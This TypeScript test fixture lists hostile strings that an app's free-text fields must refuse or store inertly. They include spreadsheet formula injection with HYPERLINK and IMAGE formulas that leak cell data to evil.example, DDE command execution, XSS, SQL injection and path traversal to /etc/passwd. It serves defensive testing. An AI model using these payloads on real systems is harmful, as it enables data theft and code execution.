/**
 * Hostile and awkward text: what a therapist, a pasted document or an attacker could put in any
 * free-text field. Each must be refused with a clear message or stored as inert text, exactly.
 */
export interface HostileText {
  label: string;
  text: string;
}

const long = (unit: string, count: number) => unit.repeat(count);

export const HOSTILE_TEXTS: readonly HostileText[] = [
  // Formula injection: every prefix a spreadsheet may read as the start of a formula.
  { label: 'formula =', text: '=1+1' },
  { label: 'formula +', text: '+1+1' },
  { label: 'formula -', text: '-1+1' },
  { label: 'formula @', text: '@SUM(A1:A9)' },
  { label: 'tab then =', text: '\t=1+1' },
  { label: 'CR then =', text: '\r=1+1' },
  { label: 'LF then =', text: '\n=1+1' },
  { label: 'HYPERLINK exfiltration', text: '=HYPERLINK("https://evil.example/?leak="&B2,"Open chart")' },
  { label: 'IMPORTXML', text: '=IMPORTXML("https://evil.example/x","//a")' },
  { label: 'IMPORTDATA', text: '=IMPORTDATA("https://evil.example/c.csv")' },
  { label: 'IMAGE beacon', text: '=IMAGE("https://evil.example/p.png?"&C2)' },
  { label: 'IMPORTRANGE', text: '=IMPORTRANGE("1AbCdEf","Attendance!A:Z")' },
  { label: 'DDE', text: "=cmd|' /C calc'!A0" },
  { label: '+HYPERLINK', text: '+HYPERLINK("https://evil.example","x")' },
  { label: '- DDE', text: "-2+3+cmd|' /C calc'!A0" },
  { label: '@IMPORTXML', text: '@IMPORTXML("https://evil.example","//a")' },
  { label: 'space then =', text: ' =1+1' },
  { label: 'no-break space then =', text: '\u00A0=1+1' },
  { label: 'fullwidth =', text: '\uFF1D1+1' },
  { label: 'apostrophe then =', text: "'=1+1" },
  { label: 'apostrophe alone', text: "'" },
  { label: 'two apostrophes', text: "''" },
  { label: '= alone', text: '=' },
  { label: '==', text: '==1' },
  { label: 'division by zero', text: '=1/0' },
  // Text Sheets would silently turn into a number, date, boolean or time.
  { label: 'leading zeros', text: '007' },
  { label: 'fraction', text: '1/2' },
  { label: 'ISO date', text: '2025-03-10' },
  { label: 'US date', text: '3/10/2025' },
  { label: 'exponent', text: '1e5' },
  { label: 'boolean', text: 'TRUE' },
  { label: 'percent', text: '50%' },
  { label: 'currency', text: '$1,000' },
  { label: 'grouped number', text: '1,234' },
  { label: 'time', text: '3:30' },
  // Markup and script, for every place the text is shown again.
  { label: 'script tag', text: '<script>alert(1)</script>' },
  { label: 'img onerror', text: '<img src=x onerror=alert(1)>' },
  { label: 'attribute break-out', text: '"><svg onload=alert(1)>' },
  { label: 'javascript: URL', text: 'javascript:alert(1)' },
  { label: 'Apps Script scriptlet', text: '<?= Session.getActiveUser() ?>' },
  { label: 'closing script', text: '</script><script>alert(1)</script>' },
  { label: 'template braces', text: '{{7*7}}' },
  { label: 'template literal', text: '${7*7}' },
  { label: 'SQL', text: "Robert'); DROP TABLE Students;--" },
  { label: 'format string', text: '%s%s%n%x' },
  { label: 'path', text: '../../etc/passwd' },
  // Lengths at and near the limits.
  { label: '200 characters', text: long('x', 200) },
  { label: '500 characters', text: long('n', 500) },
  { label: '300 decomposed é', text: long('e\u0301', 250) },
  { label: '250 emoji', text: long('😀', 250) },
  // Unicode.
  { label: 'combining marks', text: 'Zoe\u0308 Bru\u0308ck' },
  { label: 'zalgo', text: 'Z\u0337\u0322\u0349a\u0335l\u0336g\u0337o\u0338' },
  { label: 'RTL override', text: '\u202Egnp.exe' },
  { label: 'Hebrew', text: 'שלום עולם' },
  { label: 'Arabic', text: 'مرحبا بالعالم' },
  { label: 'emoji ZWJ sequence', text: '👩🏽‍⚕️ 🧑‍🤝‍🧑' },
  { label: 'zero-width space then =', text: '\u200B=1+1' },
  { label: 'BOM then =', text: '\uFEFF=1+1' },
  { label: 'ZWJ and ZWNJ inside', text: 'a\u200Db\u200Cc' },
  { label: 'line and paragraph separators', text: 'line\u2028next\u2029para' },
  { label: 'tabs inside', text: 'tab\tin\tmiddle' },
  { label: 'newlines inside', text: 'first line\nsecond line\r\nthird' },
  { label: 'astral letters', text: '𝔘𝔫𝔦𝔠𝔬𝔡𝔢' },
  { label: 'CJK', text: '出席記録' },
  // Words that are also values in code.
  { label: 'null', text: 'null' },
  { label: 'undefined', text: 'undefined' },
  { label: '[object Object]', text: '[object Object]' },
  { label: '__proto__', text: '__proto__' },
  { label: 'constructor', text: 'constructor' },
  { label: 'whitespace only', text: '   ' },
  { label: 'NUL character', text: 'a\u0000b' },
];

/** Texts that must be refused wherever they go: too long for any field. */
export const OVERLONG_TEXTS: readonly HostileText[] = [
  { label: '501 characters', text: long('y', 501) },
  { label: '50,001 characters', text: long('z', 50001) },
  { label: '1 MB', text: long('m', 1 << 20) },
];
